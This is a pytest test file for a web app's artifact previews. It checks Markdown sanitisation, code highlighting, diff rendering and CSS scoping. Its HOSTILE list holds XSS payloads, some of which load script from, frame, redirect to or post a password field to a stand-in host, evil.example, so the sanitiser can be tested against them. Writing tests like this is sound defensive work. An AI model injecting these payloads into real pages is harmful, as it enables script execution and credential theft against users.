"""Previews: Markdown rendered and made harmless, code highlighted, patches as diffs."""

from __future__ import annotations

import re

import pytest

from apps.artifacts.models import Artifact
from apps.artifacts.rendering import (
    PREVIEW_LIMIT,
    artifact_preview_html,
    code_html,
    highlight_css,
    markdown_html,
    patch_html,
)

HOSTILE = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](https://tracker.example/p.gif)",
    '<div onmouseover="alert(1)" style="position:fixed;inset:0">cover</div>',
    '<iframe src="https://evil.example"></iframe>',
    "<svg><script>alert(1)</script></svg>",
    "<style>body { display: none }</style>",
    '<form action="https://evil.example"><input name="password"></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<p class="fixed inset-0 z-50">overlay</p>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<!-- <script>alert(1)</script> -->",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_is_made_harmless(payload):
    rendered = str(markdown_html(f"# Report\n\nSome text.\n\n{payload}\n\nMore text.\n")).lower()
    for forbidden in (
        "<script",
        "javascript:",
        "onerror",
        "onmouseover",
        "<iframe",
        "<style",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<meta",
        "<img",
        "data:text",
        "tracker.example",
        "position:fixed",
        "inset-0",
        "<svg",
        "<math",
    ):
        assert forbidden not in rendered, (payload, rendered)
    assert "<h1>report</h1>" in rendered and "more text." in rendered
    assert not re.search(r"\son\w+\s*=", rendered)


def test_markdown_keeps_what_a_report_needs():
    text = (
        "# Title\n\n**bold** and *em*, `code`, a [link](https://example.com/docs).\n\n"
        "| file | lines |\n|:-----|------:|\n| a.py | 10 |\n\n"
        "```python\nx = 1 < 2\n```\n\n- one\n- two\n\n> quoted\n"
    )
    rendered = str(markdown_html(text))
    assert "<h1>Title</h1>" in rendered and "<strong>bold</strong>" in rendered
    assert "<code>code</code>" in rendered
    assert 'href="https://example.com/docs"' in rendered and 'rel="noopener' in rendered
    assert "<table>" in rendered and '<td style="text-align:right">10</td>' in rendered
    assert '<div class="highlight">' in rendered and '<span class="n">x</span>' in rendered
    assert "&lt;" in rendered  # the code's "<", escaped
    assert "<li>one</li>" in rendered and "<blockquote>" in rendered


def test_code_is_highlighted_and_escaped():
    rendered = str(code_html('def f():\n    return "</pre><script>alert(1)</script>"\n', "python"))
    assert rendered.startswith('<div class="highlight">')
    assert '<span class="k">def</span>' in rendered
    assert "<script>" not in rendered and "&lt;script&gt;" in rendered
    unknown = str(code_html("<b>not bold</b>", "no-such-language"))
    assert "&lt;b&gt;" in unknown and "<b>" not in unknown


def test_a_patch_marks_added_removed_and_hunk_lines():
    rendered = str(
        patch_html("--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n-old <b>\n+new & improved\n same\n")
    )
    assert rendered.startswith('<pre class="artifact-diff">')
    assert '<span class="diff-file">--- a/x.py</span>' in rendered
    assert '<span class="diff-file">+++ b/x.py</span>' in rendered
    assert '<span class="diff-hunk">@@ -1,2 +1,2 @@</span>' in rendered
    assert '<span class="diff-del">-old &lt;b&gt;</span>' in rendered
    assert '<span class="diff-add">+new &amp; improved</span>' in rendered
    assert '<span class="diff-context"> same</span>' in rendered


def test_a_preview_follows_the_kind():
    report = Artifact(kind="report", content="# Hello <script>x</script>", language="markdown")
    assert "<h1>Hello </h1>" in artifact_preview_html(report)
    patch = Artifact(kind="patch", content="+a\n", language="diff")
    assert 'class="diff-add"' in artifact_preview_html(patch)
    code = Artifact(kind="code", content="SELECT 1;", language="sql")
    assert '<span class="k">SELECT</span>' in artifact_preview_html(code)


def test_a_long_artifact_is_previewed_in_part():
    rendered = str(code_html("x" * (PREVIEW_LIMIT + 10), "text"))
    assert "download the artifact" in rendered
    assert rendered.count("x") < PREVIEW_LIMIT + 10


def test_the_stylesheet_covers_the_classes_and_touches_nothing_else():
    css = highlight_css()
    assert ".highlight .k {" in css and ".dark .highlight .k {" in css
    assert ".artifact-diff .diff-add" in css and ".artifact-diff .diff-del" in css
    for rule in css.splitlines():
        if "{" in rule:
            assert rule.lstrip().startswith((".highlight", ".dark", ".artifact")), rule


def test_a_code_block_whose_fence_names_its_file_is_highlighted_code():
    html = markdown_html("Here:\n\n```python app/models.py\nclass Widget:\n    pass\n```\n")
    assert "<pre" in html and "Widget" in html
    assert "```" not in html and "app/models.py" not in html
